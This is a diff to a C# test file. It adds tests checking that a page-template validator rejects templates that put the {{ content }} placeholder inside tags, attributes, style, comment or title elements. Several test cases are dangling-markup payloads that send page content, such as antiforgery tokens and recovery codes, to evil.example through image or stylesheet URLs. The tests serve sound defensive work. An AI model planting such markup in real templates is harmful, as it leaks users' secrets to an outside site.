@@ -76,6 +76,32 @@ public sealed class PageTemplatesTests
         Assert.That(PageTemplates.Problem(template, Acme)!.Message, Is.EqualTo(message));
     }
 
+    // Inside a tag, an attribute, a comment or an element of text, a browser takes the page's markup as that text: an
+    // attribute left open sends the page (its antiforgery token, an authenticator's key, a new recovery code) to another
+    // site in an image's or a stylesheet's URL, as dangling markup does.
+    [TestCase("<img src=\"https://evil.example/c?{{ content }}\">", "inside a tag or one of its attributes")]
+    [TestCase("<img src='https://evil.example/c?{{ content }}", "inside a tag or one of its attributes")]
+    [TestCase("<img src=https://evil.example/c?{{ content }}>", "inside a tag or one of its attributes")]
+    [TestCase("<p title=\"a > b\"></p><a title=\">\" href=\"https://evil.example/c?{{ content }}\">x</a>", "inside a tag or one of its attributes")]
+    [TestCase("<style>p { color: red; }</style><STYLE>@import url(\"https://evil.example/c?{{ content }}\");</STYLE>", "inside a <style> element")]
+    [TestCase("<!-- note --><!-- {{ content }} -->", "inside a comment")]
+    [TestCase("<title>{{ content }}</title>", "inside a <title> element")]
+    public void Problem_ContentInsideATagACommentOrAnElementOfText_IsRefusedNamingWhere(string template, string where)
+    {
+        var problem = PageTemplates.Problem(template, Acme);
+
+        Assert.That(problem!.Message, Is.EqualTo($"must show the page's content ({{{{ content }}}}) between elements, not {where}"));
+    }
+
+    [Test]
+    public void Render_ContentBetweenElements_AfterTagsWithQuotedAngleBracketsAndTextElements_IsUsed()
+    {
+        var render = PageTemplates.Render("<style>a > b { color: #1f4e8c; }</style><!-- <img src=\" --><p title=\"a > b\">x</p>\n<main>{{ content }}</main><img src=\"https://acme.example/x.png\" alt=\"\">",
+            Acme, "<form method=\"post\"></form>");
+
+        Assert.That(render, Is.TypeOf<TemplateRender.Rendered>(), render is TemplateRender.Failed failed ? failed.Reason : "");
+    }
+
     [Test]
     public void Problem_LoopPastTheStepLimit_IsRefusedNamingTheLimit()
     {
